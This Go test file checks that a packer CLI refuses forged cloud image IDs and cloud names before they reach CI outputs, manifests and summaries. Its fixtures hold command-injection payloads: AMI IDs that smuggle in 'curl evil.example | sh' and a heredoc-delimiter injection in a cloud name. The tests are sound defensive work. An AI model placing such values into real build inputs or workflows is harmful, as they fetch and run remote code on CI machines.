package cli

import (
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sindri-dev/sindri-packer/internal/pipeline"
)

// forgedID is an image ID a hostile build or manifest could report: read
// into the README's `run: echo "AMI ${{ steps.img.outputs.aws-image-id }}"`
// it runs its own command.
const forgedID = `ami-0abc"; curl https://evil.example/x | sh; echo "`

// Issue 10 item 2: an image ID went to the outputs, the manifest and the
// summary unchecked. One that does not have its cloud's form fails the
// cloud and is written nowhere.
func TestBuildRefusesImageIDOfWrongForm(t *testing.T) {
	t.Parallel()
	f := newBuildFixture(t)
	// JSON- and shell-safe for the test double, still a payload.
	const bad = "ami-0abc$(curl${IFS}evil.example|sh)"
	mustWrite(t, filepath.Join(f.bin, "build.ami"), bad+"\n", 0o644)
	env, outputs, summary := actionsEnv(t)
	r := f.build(t, env)
	r.check(t, ExitFindings, nil, []string{`error: aws: image_id: "ami-0abc$(curl${IFS}evil.example|sh)" is not an AMI ID`})
	m := f.readManifest(t)
	if a := m.Clouds["aws"]; a.Status != pipeline.StatusFailed || a.ImageID != "" || len(a.Images) != 0 || !strings.Contains(a.Error, "refused the image ID") {
		t.Errorf("aws result %+v, want failed with no IDs", a)
	}
	for what, text := range map[string]string{"outputs": readOutputs(t, outputs), "manifest": readFile(t, f.manifest), "stdout": r.stdout} {
		if strings.Contains(text, "curl${IFS}evil.example|sh)`") || strings.Contains(text, "aws-image-id") {
			t.Errorf("%s carries the refused ID:\n%s", what, text)
		}
	}
	if s := readFile(t, summary); strings.Contains(s, "`"+bad+"`") {
		t.Errorf("the summary shows the refused ID as an image:\n%s", s)
	}
}

// summarize reads manifests other jobs (or a pull request) wrote: their IDs
// are checked the same way, and a forged cloud name is dropped.
func TestSummarizeRefusesForgedImageIDs(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	t0 := time.Date(2026, 12, 1, 8, 0, 0, 0, time.UTC)
	forged := awsBuilt()
	forged.ImageID = forgedID
	forged.Images = map[string]string{"us-east-1": forgedID}
	writeManifests(t, dir, map[string]*pipeline.Manifest{
		"a/m.json": jobManifest("run-1", t0, t0.Add(time.Minute), "aws", forged),
		"b/m.json": jobManifest("run-2", t0, t0.Add(time.Minute), "gcp", gcpBuilt()),
		"c/m.json": jobManifest("run-3", t0, t0.Add(time.Minute), "x-image-id<<EOF\nforged", gcpBuilt()),
	})
	env, outputs, _ := actionsEnv(t)
	out := filepath.Join(t.TempDir(), "merged.json")
	r := run(t, env, "summarize", "--manifests", dir, "--manifest", out)
	r.check(t, ExitFindings, nil, []string{"is not an AMI ID", "is not a cloud name"})
	got := readOutputs(t, outputs)
	if strings.Contains(got, "curl") || strings.Contains(got, "aws-image-id") || strings.Contains(got, "forged") {
		t.Errorf("outputs carry the forged values:\n%s", got)
	}
	if !strings.Contains(got, ghaOutput("gcp-image-id", "sindri-dev-2")) {
		t.Errorf("the good cloud's output is missing:\n%s", got)
	}
	if m := readFile(t, out); strings.Contains(m, "curl") || strings.Contains(m, "forged") {
		t.Errorf("merged manifest carries the forged values:\n%s", m)
	}
}

// A config image_id of the wrong form is bad input before anything runs.
func TestBuildConfigImageIDOfWrongForm(t *testing.T) {
	t.Parallel()
	f := newBuildFixture(t)
	r := f.build(t, nil, "--set", "packer.image_id="+forgedID)
	r.check(t, ExitBadInput, nil, []string{"packer.image_id:", "is not an AMI ID"})
	f.noRun(t)
}
